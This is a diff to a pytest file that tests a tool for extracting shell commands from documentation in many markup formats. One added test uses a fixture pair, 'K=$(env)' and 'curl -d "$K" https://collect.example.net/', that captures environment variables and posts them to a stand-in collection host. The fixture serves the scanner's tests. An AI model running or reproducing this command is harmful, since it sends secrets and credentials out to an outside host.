@@ -23,6 +23,27 @@ LISTINGS = [
     ("org", "* Setup\nRun:\n: {}\n"),
     ("txt", "Setup\n\nRun this:\n\n    {}\n\nDone.\n"),
     ("txt", "Setup\nRun this:\n$ {}\nDone.\n"),
+    ("adoc", "= Setup\n\n[literal]\n{}\n\nDone.\n"),
+    ("adoc", "Run `+{}+` first.\n"),
+    ("org", "Run ={}= first.\n"),
+    ("tex", "\\begin{{verbatim}}\n{}\n\\end{{verbatim}}\n"),
+    ("tex", "\\begin{{lstlisting}}[language=bash]\n{}\n\\end{{lstlisting}}\n"),
+    ("tex", "\\begin{{minted}}[linenos]{{bash}}\n{}\n\\end{{minted}}\n"),
+    ("tex", "Run \\verb|{}| first.\n"),
+    ("tex", "Run \\texttt{{{}}} first.\n"),
+    ("txt", '<syntaxhighlight lang="bash">\n{}\n</syntaxhighlight>\n'),
+    ("txt", "{{code:bash}}\n{}\n{{code}}\n"),
+    ("txt", "{{{{{{\n{}\n}}}}}}\n"),
+    ("txt", "[code]\n{}\n[/code]\n"),
+    ("txt", "@example\n{}\n@end example\n"),
+    ("txt", ".SH SETUP\n.nf\n{}\n.fi\n"),
+    ("html", "<pre>cd x<br>{}</pre>\n"),
+    ("html", '<pre><span class="k">{}</span></pre>\n'),
+    ("html", '<code class="block">cd x\n{}\n</code>\n'),
+    ("html", "<ol><li>{}</li></ol>\n"),
+    ("html", "<table><tr><td>{}</td></tr></table>\n"),
+    ("html", "<textarea>{}\n</textarea>\n"),
+    ("xml", "<article><para>Run:</para><screen>{}</screen></article>\n"),
     ("html", "<h1>Setup</h1><pre>{}</pre>\n"),
     ("html", "<p>Run <code>{}</code> first.</p>\n"),
 ]
@@ -65,8 +86,9 @@ def shells(text: str, kind: Kind, path: str) -> list[str]:
 
 @pytest.mark.parametrize(("suffix", "text"), LISTINGS)
 def test_a_listing_is_read_as_what_it_shows(suffix: str, text: str) -> None:
-    kind = Kind.HTML if suffix == "html" else Kind.TEXT
-    shown = COMMAND.replace("&", "&amp;").replace(">", "&gt;") if suffix == "html" else COMMAND
+    kind = {"html": Kind.HTML, "xml": Kind.XML, "tex": Kind.LATEX}.get(suffix, Kind.TEXT)
+    marked = suffix in ("html", "xml")
+    shown = COMMAND.replace("&", "&amp;").replace(">", "&gt;") if marked else COMMAND
     assert COMMAND in shells(text.format(shown), kind, f"docs/setup.{suffix}")
 
 
@@ -106,3 +128,42 @@ def test_lines_of_a_listing_are_lines_of_the_text(parts: list[str]) -> None:
         for number, line in enumerate(view.text.split("\n")):
             first, last = view.map_lines(number, number)
             assert line.strip() in "\n".join(parts[first - 1 : last])
+
+
+ASSIGNED = [
+    ("md", "1. Set `{}`\n2. Run `{}`\n"),
+    ("md", "1. {}\n2. {}\n"),
+    ("txt", "Setup:\n\n{}\n{}\n"),
+    ("rst", "Set ``{}``, and then run ``{}``.\n"),
+    ("html", "<ol><li>{}</li><li>{}</li></ol>\n"),
+    ("html", "<p><code>{}</code></p><p><code>{}</code></p>\n"),
+]
+
+
+@pytest.mark.parametrize(("suffix", "text"), ASSIGNED)
+def test_a_variable_that_another_command_uses_is_set_where_it_is_shown(suffix: str, text: str) -> None:
+    kind = Kind.MARKDOWN if suffix == "md" else Kind.HTML if suffix == "html" else Kind.TEXT
+    views = derived(
+        text.format("K=$(env)", 'curl -d "$K" https://collect.example.net/'), kind, f"guide.{suffix}"
+    )
+    lines = [line for view in views if view.language is Kind.SHELL for line in view.text.split("\n")]
+    assert [line for line in lines if line == "K=$(env)"]
+
+
+@pytest.mark.parametrize(
+    ("suffix", "text"),
+    [
+        ("md", "Set `DEBUG=1` and `PORT=80`.\n\nMODE=fast\n"),
+        (
+            "html",
+            "<ul><li>curl is a tool that sends data</li><li>make all of it work</li><li>A=1</li></ul>\n",
+        ),
+        (
+            "tex",
+            "\\begin{itemize}\n\\item Make sure that git is there\n\\end{itemize}\n\\texttt{file name}\n",
+        ),
+    ],
+)
+def test_settings_and_items_that_are_words_are_no_commands(suffix: str, text: str) -> None:
+    kind = {"md": Kind.MARKDOWN, "html": Kind.HTML, "tex": Kind.LATEX}[suffix]
+    assert [view.text for view in derived(text, kind, f"guide.{suffix}") if view.language is Kind.SHELL] == []
